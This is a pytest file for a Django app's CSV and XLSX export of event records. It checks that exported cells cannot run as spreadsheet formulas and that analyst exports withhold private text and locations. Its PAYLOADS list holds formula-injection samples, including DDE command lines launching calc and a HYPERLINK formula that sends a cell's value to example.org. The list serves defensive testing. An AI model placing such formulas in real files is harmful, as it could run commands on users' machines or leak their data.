"""Files of cards: loaded again they change nothing, and no cell of them runs."""

import csv
import io
import random

import openpyxl
import pytest
from django.db import models
from django.urls import reverse

from cards.files import export
from cards.files.cells import plain, safe
from cards.files.importing import check
from cards.models import Card
from tests.factories import EditorFactory, MonitorFactory, add_outcome, make_card, rows_of_cards

pytestmark = pytest.mark.django_db
TEXTS = (
    "settlement",
    "place",
    "source_links",
    "form_other",
    "demands",
    "organiser_name",
    "refusal_ground",
    "description",
    "inclusion_reason",
)
PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1)',
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "harmless;=1+1",
    "harmless,=1+1",
    "harmless\t=1+1",
    "harmless\n=1+1",
    "harmless\r\n=1+1",
    'harmless";=1+1;"',
    "harmless|=1+1",
    ";;=1+1",
    "=1;=2;=3",
    "- one\n- two",
    "=IMPORTXML(CONCAT(1,2),3)",
    "=WEBSERVICE(1)",
    "=DDE(1;2;3)",
    "=-1",
    "--1",
    "=",
    "-",
    "@",
    "+7 701 000 00 00",
    "=A1",
    "\u200b=1",
    "x" * 20_000,
]


def runs(cell: str) -> bool:
    """Whether a spreadsheet could take the text of a cell for a formula."""
    return cell.lstrip(' \u00a0"')[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") or cell[:1] in (
        "\t",
        "\r",
    )


def csv_rows(cards) -> list[dict[str, str]]:
    with export.written(cards, "csv") as stream:
        return list(csv.DictReader(io.StringIO(stream.read().decode("utf-8-sig"), newline="")))


def test_there_are_forty_payloads():
    assert len(set(PAYLOADS)) == 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_of_a_card_runs_in_any_format(reference, payload):
    card = make_card("submitted")
    Card.objects.filter(pk=card.pk).update(
        **{name: payload[: Card._meta.get_field(name).max_length or 40_000] for name in TEXTS}
    )
    cards = Card.objects.filter(pk=card.pk)
    (row,) = csv_rows(cards)
    for name in TEXTS:
        assert not runs(row[name])
        assert plain(row[name]) == payload[: Card._meta.get_field(name).max_length or 40_000]
    # Read with other separators than it was written with, as a spreadsheet of another country does.
    with export.written(cards, "csv") as stream:
        content = stream.read().decode("utf-8-sig")
    for separator in ";\t":
        lines = csv.reader(io.StringIO(content, newline=""), delimiter=separator)
        assert not [cell for line in lines for cell in line if runs(cell)]
    with export.written(cards, "xlsx") as stream:
        book = openpyxl.load_workbook(io.BytesIO(stream.read()))
    cells = [cell for sheet in book for line in sheet.iter_rows() for cell in line]
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]
    assert not [cell.value for cell in cells if isinstance(cell.value, str) and runs(cell.value)]


def test_what_was_made_safe_can_be_read_back():
    dice = random.Random(1)
    for _trial in range(20_000):
        length = dice.randint(0, 9)
        text = "".join(dice.choice("=+-@'\"\t\r\n;,| ax\uff1d\u00a0") for _ in range(length))
        assert plain(safe(text)) == text
    assert safe("Ordinary text - with a dash, and more") == "Ordinary text - with a dash, and more"
    assert plain(12) == 12
    assert plain(None) is None


def test_the_columns_are_these_and_no_others(reference):
    row = csv_rows(Card.objects.filter(pk=make_card("approved").pk))[0]
    assert tuple(row) == export.COLUMNS
    private = {"monitor", "editor", "search_text", "warnings_accepted", "created_at", "id"}
    assert not private & {*export.COLUMNS, *export.OUTCOME_COLUMNS}


def test_analysts_take_out_what_can_be_counted(reference):
    """No text that somebody wrote, no exact place, no code of a person, nothing unchecked."""
    card = make_card("approved", latitude=43, longitude=77)
    Card.objects.filter(pk=card.pk).update(ref="From a notebook")
    add_outcome(card, case_code="A-01")
    add_outcome(card, case_code="A-02", review="pending")
    add_outcome(card, case_code="A-03", review="rejected")
    with export.written_for_analysis(Card.objects.all(), "xlsx") as stream:
        book = openpyxl.load_workbook(io.BytesIO(stream.read()))
    heading, values = book["cards"].iter_rows(values_only=True)
    assert heading == export.FOR_ANALYSIS.cards
    withheld = {*TEXTS, "ref", "latitude", "longitude"}
    assert not withheld & set(heading)
    written = {
        column.name
        for column in Card._meta.get_fields()
        if isinstance(column, models.TextField | models.CharField)
        and not column.choices
        and not hasattr(column, "vocabulary")
    }
    assert not (written - {"number", "uuid"}) & set(heading), "a new text is not in it by itself"
    heading, *lines = book["outcomes"].iter_rows(values_only=True)
    assert heading == export.FOR_ANALYSIS.outcomes
    assert not {"case_code", "court"} & set(heading)
    assert [line[0] for line in lines] == [str(card.uuid)], "the one that an editor approved"
    with export.written_for_analysis(Card.objects.all(), "csv") as stream:
        (row,) = csv.DictReader(io.StringIO(stream.read().decode("utf-8-sig"), newline=""))
    assert row["participants"] == "25"
    assert set(export.FOR_ANALYSIS.cards) < set(export.COLUMNS)


def test_whose_file_is_which(reference, signed_in, editor, analyst):
    make_card("approved", description="Said by a witness")
    found = {}
    for user in (editor, analyst):
        client = signed_in(user)
        asked = client.get(reverse("cards:export")).content.decode()
        assert ("It holds what can be counted" in asked) is (user == analyst)
        answer = client.post(
            reverse("cards:export"), {"purpose": "The yearly report", "format": "csv"}
        )
        found[user.role] = b"".join(answer.streaming_content).decode("utf-8-sig")
    assert "Said by a witness" in found["editor"]
    assert "Said by a witness" not in found["analyst"]
    assert found["analyst"].splitlines()[0] == ",".join(export.FOR_ANALYSIS.cards)


def test_a_workbook_has_numbers_dates_and_the_outcomes_beside(reference):
    card = make_card("approved")
    add_outcome(card)
    add_outcome(card, case_code="A-02", review="rejected")
    add_outcome(card, case_code="A-03", review="pending", fine_mci="20.5")
    with export.written(Card.objects.all(), "xlsx") as stream:
        book = openpyxl.load_workbook(io.BytesIO(stream.read()))
    assert book.sheetnames == ["cards", "outcomes"]
    heading, values = book["cards"].iter_rows(values_only=True)
    row = dict(zip(heading, values, strict=True))
    assert (row["participants"], row["date"].date(), row["start_time"]) == (25, card.date, "12:00")
    assert (row["latitude"], row["attributes"]) == (None, "placards;chants")
    heading, *lines = book["outcomes"].iter_rows(values_only=True)
    outcomes = [dict(zip(heading, line, strict=True)) for line in lines]
    assert [(line["card"], line["case_code"]) for line in outcomes] == [
        (str(card.uuid), "A-01"),
        (str(card.uuid), "A-03"),
    ]
    assert outcomes[1]["fine_mci"] in (20.5, "20.5")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_exported_file_loaded_again_changes_nothing(reference, kind):
    odd = {"demands": "=1+1\n- two; -three", "description": "+7\n@here", "place": "'=quoted"}
    make_card("submitted", **odd)
    make_card("submitted", detained=None, latitude=43, longitude=77, source=("direct", "official"))
    card = make_card("approved", monitor=MonitorFactory(), date_precision="month")
    add_outcome(card)
    with export.written(Card.objects.all(), kind) as stream:
        checked = check(stream.read(), user=EditorFactory())
    assert [str(refusal) for refusal in checked.refusals] == []
    assert (checked.rows, checked.outcomes) == ([], [])
    assert checked.cards.read == 3


@pytest.mark.parametrize("number", [3, 30])
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_file_takes_as_many_queries_for_3_cards_as_for_30(
    reference, django_assert_max_num_queries, kind, number
):
    rows_of_cards(number, monitor=MonitorFactory())
    with django_assert_max_num_queries(2), export.written(Card.objects.all(), kind) as stream:
        assert stream.read(4)


def test_another_format_does_not_exist(reference):
    with pytest.raises(KeyError):
        export.written(Card.objects.all(), "exe")
